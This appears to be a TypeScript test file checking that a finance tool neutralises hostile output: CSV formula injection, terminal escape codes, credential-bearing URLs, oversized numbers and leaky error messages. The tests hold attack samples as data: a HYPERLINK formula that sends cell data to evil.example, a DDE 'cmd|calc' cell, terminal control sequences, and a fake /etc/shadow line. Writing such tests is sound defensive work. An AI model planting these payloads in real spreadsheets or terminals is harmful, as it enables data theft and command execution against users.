/** Hostile text on its way out: CSV cells, terminal output, stored user agents, URLs and numbers. */
import { FIGURE_KEYS } from '../../core/rollup-figures.ts';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, parseCsv } from '../../core/finance/csv.ts';
import { parseGa4Csv } from '../../core/finance/ga4.ts';
import { parsePayoutRules } from '../../core/finance/payout-rules.ts';
import { cachedQrImages } from '../../core/outreach/qr-code.ts';
import { rollupCsvLines } from '../../core/rollup-report.ts';
import { ZERO_FIGURES } from '../../core/rollup.ts';
import { Vendor } from '../../core/vendor.ts';
import { stripControls, stripControlsKeepingLines, terminalJson } from '../../core/untrusted-text.ts';
import { table } from '../../cli/command.ts';

const DANGEROUS = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

describe('CSV formula injection', () => {
  it('a cell starting with = + - @, tab or CR is shown as text; numbers stay numbers', () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?leak="&A2,"x")')).toBe(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""x"")"`);
    expect(csvCell('+1+cmd|calc')).toBe("'+1+cmd|calc");
    expect(csvCell('-2+3')).toBe("'-2+3");
    // A plain negative amount (a clawback) stays a number; anything after it makes it text again.
    expect(csvCell('-50.00')).toBe('-50.00');
    expect(csvCell('-50.00+A1')).toBe("'-50.00+A1");
    expect(csvCell('-1e9')).toBe("'-1e9");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('Board & Brew')).toBe('Board & Brew');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
  });

  it('any string round-trips through the parser and never starts a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ minLength: 1, maxLength: 12 }), { minLength: 1, maxLength: 5 }), (cells) => {
        const [record] = parseCsv(csvLine(cells));
        expect(record!.fields.length).toBe(cells.length);
        record!.fields.forEach((f, i) => {
          // A plain negative amount is a number to a spreadsheet, never a formula: written as it is.
          const number = /^-\d+(\.\d+)?$/.test(cells[i]!);
          if (!number) expect(f).not.toMatch(/^[=+\-@\t\r]/);
          expect(f).toBe(/^[=+\-@\t\r]/.test(cells[i]!) && !number ? `'${cells[i]}` : cells[i]);
        });
      }),
      { numRuns: 500 },
    );
  });

  it('the rollup CSV goes through the same cell rule', () => {
    const lines = rollupCsvLines('solare' as never, [{ ...ZERO_FIGURES, day: '2026-11-03' } as never], ZERO_FIGURES as never);
    expect(lines[0]).toBe(csvLine(['vendor', 'day', ...FIGURE_KEYS]));
    expect(lines.at(-1)).toMatch(/^solare,TOTAL,/);
  });
});

describe('terminal escapes', () => {
  const evil = 'Small\u001b[2J\u001b]0;pwned\u0007\u009b31m\u202eGoods\u2066x\u200f\u0000';
  it('printing strips C0, C1 and bidi controls; multi-line text keeps its lines', () => {
    expect(stripControls(evil)).toBe('Small[2J]0;pwned31mGoodsx');
    expect(stripControlsKeepingLines('a\u001b[31m\nb\tc\u202e')).toBe('a[31m\nb\tc');
    for (const line of table(['name'], [[evil]]).split('\n')) expect(line).not.toMatch(DANGEROUS);
  });

  it('JSON lines escape them instead, so the value still parses back unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 30 }), (s) => {
        const line = terminalJson({ s });
        expect(line).not.toMatch(DANGEROUS);
        expect(JSON.parse(line).s).toBe(s);
      }),
      { numRuns: 1_000 },
    );
  });
});

describe('values refused at the door', () => {
  it('a vendor destination with a user name or password', () => {
    for (const destination of ['https://user:pass@queenofsandiego.com/', 'https://user@queenofsandiego.com/', 'https://queenofsandiego.com@evil.example/', 'https://:x@queenofsandiego.com/', 'https://@queenofsandiego.com/']) {
      const parsed = Vendor.safeParse({ code: 'solare', name: 'Solare', destination });
      expect(parsed.success, destination).toBe(false);
      expect(parsed.error!.issues[0]!.message).toMatch(/user name or password/);
    }
    expect(Vendor.safeParse({ code: 'solare', name: 'Solare', destination: 'https://queenofsandiego.com/book?who=a@b' }).success).toBe(true);
  });

  it('GA4 session counts that are not exact integers (above 2^53)', () => {
    const csv = ['Date,Session source,Session medium,Sessions', '20261103,solare,referral,100000000000000000000000', '20261103,solare,referral,"9,007,199,254,740,993"', '20261104,solare,referral,"9,007,199,254,740,991"'].join('\n');
    const parsed = parseGa4Csv(csv, 'ga4.csv');
    expect(parsed.problems.map((p) => p.line)).toEqual([2, 3]);
    for (const p of parsed.problems) expect(p.message).toMatch(/too large/);
    expect(parsed.rows.map((r) => r.sessions)).toEqual([9_007_199_254_740_991]);
  });

  it('a rules file that is not JSON: the message gives no byte of it', () => {
    for (const text of ['root:$y$j9T$SECRET:19700:0:99999:7:::\n', '{"currency": "USD", SECRET}']) {
      expect(() => parsePayoutRules(text, '/etc/shadow', new Set())).toThrow(/^\/etc\/shadow: not valid JSON/);
      try {
        parsePayoutRules(text, '/etc/shadow', new Set());
      } catch (error) {
        expect((error as Error).message).not.toMatch(/SECRET|root|\$y/);
      }
    }
  });
});

describe('QR images', () => {
  it('are rendered once per link and reused; a failed render is retried', async () => {
    let renders = 0;
    let fail = true;
    const images = cachedQrImages(async (text) => {
      renders++;
      if (text === 'flaky' && fail) throw new Error('boom');
      return { png: Buffer.from(text), svg: text };
    }, 2);
    const [a, b] = await Promise.all([images('a'), images('a')]);
    expect(a).toBe(b);
    expect(renders).toBe(1);
    await expect(images('flaky')).rejects.toThrow('boom');
    fail = false;
    expect((await images('flaky')).svg).toBe('flaky');
    expect(renders).toBe(3);
    await images('c'); // over the bound of 2: the oldest ('a') is dropped
    await images('a');
    expect(renders).toBe(5);
  });
});
